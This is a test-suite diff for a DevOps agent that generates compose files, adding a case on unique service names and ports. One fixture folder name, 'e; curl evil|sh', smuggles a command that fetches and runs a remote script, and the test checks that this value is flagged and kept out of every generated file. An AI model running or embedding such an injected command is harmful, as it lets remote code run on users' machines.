@@ -81,6 +81,37 @@ describe('the files of the DevOps agent', function () {
     assert.ok(files.has('sample-worker.Dockerfile'));
   });
 
+  it('have names, ports and folders that nothing else takes', async () => {
+    const server = (name: string) => ({
+      'package.json': JSON.stringify({
+        name,
+        scripts: { start: 'node server.js' },
+        dependencies: { express: '4' },
+      }),
+      'server.js': "import express from 'express';\nconst app = express();\napp.listen(3000);\n",
+    });
+    const inside = (folder: string, files: Record<string, string>) =>
+      Object.fromEntries(Object.entries(files).map(([file, text]) => [`${folder}/${file}`, text]));
+    const facts = await learn({
+      ...inside('a', server('web')),
+      ...inside('b', server('web')),
+      ...inside('c', server('web-2')),
+      ...inside('d', server('redis')),
+      ...inside('e; curl evil|sh', server('evil')),
+    });
+    const { files } = makeDevops(facts, everything);
+
+    const names = facts.services.map(({ name }) => name);
+    assert.deepEqual(names, ['web', 'web-2', 'web-2-2', 'redis-app']);
+    const { services } = parse(files.get('compose.yaml') ?? '');
+    assert.deepEqual(
+      Object.values<{ ports: string[] }>(services).flatMap(({ ports = [] }) => ports),
+      [3000, 3001, 3002, 3003].map((port) => `127.0.0.1:${port}:3000`),
+    );
+    assert.ok(facts.unknown.some((sentence) => sentence.includes('curl evil')));
+    for (const [file, text = ''] of files) assert.ok(!text.includes('curl evil'), file);
+  });
+
   it('are none for what is not run, and say so', async () => {
     const library = sampleProjects.find(({ name }) => name === 'a library');
     const { files, notes } = makeDevops(await learn(library?.files ?? {}), { targets: [], services: [] });
